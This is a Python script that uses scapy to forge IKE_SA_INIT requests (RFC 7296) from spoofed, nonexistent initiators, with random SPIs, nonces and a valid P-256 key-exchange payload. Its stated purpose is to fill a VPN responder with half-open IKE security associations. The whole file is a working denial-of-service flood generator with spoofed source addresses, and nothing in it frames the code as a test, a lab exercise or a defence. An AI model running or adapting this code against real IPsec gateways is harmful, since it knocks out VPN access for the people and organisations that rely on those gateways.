"""IKE_SA_INIT requests of initiators that do not exist, to fill a responder with half-open IKE SAs (RFC 7296)."""
import os
import struct

from scapy.all import IP, UDP, Ether

SA, KE, NONCE = 33, 34, 40
# The generator of NIST P-256 is a point on it, as a public key has to be.
P256_GENERATOR = bytes.fromhex("6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
                               "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5")
AES_GCM_16, PRF_HMAC_SHA2_256, GROUP_19 = (1, 20, 256), (2, 5, None), (4, 19, None)


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(kind, number, key_bits, last):
    attribute = struct.pack("!HH", 0x800e, key_bits) if key_bits else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def proposal(transforms):
    body = b"".join(transform(*one, last=one is transforms[-1]) for one in transforms)
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, len(transforms)) + body


def ike_sa_init():
    """A request with an SPI and a nonce of its own, for AES-256-GCM, PRF HMAC-SHA2-256 and group 19."""
    body = (payload(KE, proposal([AES_GCM_16, PRF_HMAC_SHA2_256, GROUP_19]))
            + payload(NONCE, struct.pack("!HH", 19, 0) + P256_GENERATOR) + payload(0, os.urandom(32)))
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", SA, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def frames(source_mac, destination_mac, sources, destination, each):
    """`each` requests from every address of `sources`."""
    return [Ether(src=source_mac, dst=destination_mac) / IP(src=source, dst=destination) / UDP(sport=500, dport=500) / ike_sa_init()
            for _ in range(each) for source in sources]
